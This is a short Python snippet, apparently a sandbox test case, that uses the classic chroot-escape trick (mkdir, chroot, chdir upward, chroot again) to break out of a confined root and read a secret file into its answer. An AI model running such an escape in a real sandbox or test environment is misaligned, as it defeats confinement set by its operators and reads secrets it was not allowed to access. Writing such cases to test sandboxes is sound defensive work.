# tries: climbs out of the root folder
import os
os.mkdir("x")
os.chroot("x")
os.chdir("../../../../../..")
os.chroot(".")
answer = "OUT " + open(SECRET_FILE).read()
